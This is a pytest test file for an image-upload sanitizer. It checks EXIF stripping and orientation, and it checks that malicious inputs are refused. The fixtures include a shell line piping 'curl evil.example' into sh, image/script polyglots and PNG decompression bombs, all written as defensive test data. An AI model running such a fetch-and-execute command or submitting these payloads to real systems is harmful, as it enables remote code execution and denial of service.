"""Checking and cleaning uploaded images (pure): sniffing, limits, polyglots, EXIF."""

import io

import pytest
from PIL import Image

from diffleet_api.images import ImageFormat, ImageRefusedError, RefusalKind, sanitize
from tests.api.images import EXIF_MARKER, SCRIPT, has_exif, picture, png_bomb

MAX_PIXELS = 4096 * 4096


@pytest.mark.parametrize(
    ("pillow_format", "expected"),
    [("PNG", ImageFormat.PNG), ("JPEG", ImageFormat.JPEG), ("WEBP", ImageFormat.WEBP)],
)
def test_images_are_accepted_and_stored_without_exif(
    pillow_format: str, expected: ImageFormat
) -> None:
    original = picture(pillow_format)
    assert has_exif(original)
    assert EXIF_MARKER.encode() in original

    clean = sanitize(original, MAX_PIXELS)

    assert clean.format == expected
    assert (clean.width, clean.height) == (64, 48)
    assert not has_exif(clean.data)
    assert EXIF_MARKER.encode() not in clean.data
    with Image.open(io.BytesIO(clean.data)) as stored:
        assert stored.format == pillow_format
        assert stored.size == (64, 48)


def test_exif_orientation_is_applied_before_it_is_dropped() -> None:
    tags = Image.Exif()
    tags[0x0112] = 6  # rotate 90° clockwise to display
    out = io.BytesIO()
    Image.new("RGB", (64, 48)).save(out, format="JPEG", exif=tags)
    clean = sanitize(out.getvalue(), MAX_PIXELS)
    assert (clean.width, clean.height) == (48, 64)


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"#!/bin/sh\ncurl evil.example | sh\n", RefusalKind.UNSUPPORTED),
        (SCRIPT, RefusalKind.UNSUPPORTED),
        (b"GIF89a" + b"\0" * 64, RefusalKind.UNSUPPORTED),
        (b"", RefusalKind.UNSUPPORTED),
        (picture("PNG") + SCRIPT, RefusalKind.INVALID),
        (picture("WEBP") + SCRIPT, RefusalKind.INVALID),
        (picture("PNG")[:40] + picture("PNG")[-12:], RefusalKind.INVALID),
        (b"\x89PNG\r\n\x1a\n" + SCRIPT + b"IEND\xae\x42\x60\x82", RefusalKind.INVALID),
        (b"\xff\xd8\xff" + SCRIPT, RefusalKind.INVALID),
        (png_bomb(100_000, 100_000), RefusalKind.TOO_LARGE),
        (png_bomb(4097, 4096), RefusalKind.TOO_LARGE),
    ],
    ids=[
        "shell-script",
        "html-script",
        "gif",
        "empty",
        "png-polyglot",
        "webp-polyglot",
        "truncated-png",
        "png-magic-then-script",
        "jpeg-magic-then-script",
        "decompression-bomb",
        "one-row-over-the-pixel-limit",
    ],
)
def test_refused(data: bytes, kind: RefusalKind) -> None:
    with pytest.raises(ImageRefusedError) as refused:
        sanitize(data, MAX_PIXELS)
    assert refused.value.kind == kind, refused.value.message


def test_animated_images_are_refused() -> None:
    frames = [Image.new("RGB", (8, 8), color) for color in ("red", "blue")]
    out = io.BytesIO()
    frames[0].save(out, format="WEBP", save_all=True, append_images=frames[1:])
    with pytest.raises(ImageRefusedError, match="animated"):
        sanitize(out.getvalue(), MAX_PIXELS)


def test_a_bomb_is_refused_before_decoding() -> None:
    bomb = png_bomb(60_000, 60_000)
    assert len(bomb) < 100_000
    with pytest.raises(ImageRefusedError, match="3600000000 pixels"):
        sanitize(bomb, MAX_PIXELS)
